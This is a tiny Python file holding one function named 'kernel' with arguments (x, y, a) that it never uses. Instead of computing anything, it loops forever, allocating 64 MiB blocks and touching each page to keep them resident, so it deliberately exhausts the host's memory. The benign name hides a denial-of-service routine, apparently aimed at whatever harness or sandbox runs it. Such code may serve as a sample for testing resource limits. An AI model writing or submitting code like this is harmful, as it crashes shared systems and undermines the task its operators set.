def kernel(x, y, a):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))  # 64 MiB at a time, touched so it is resident
        hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])
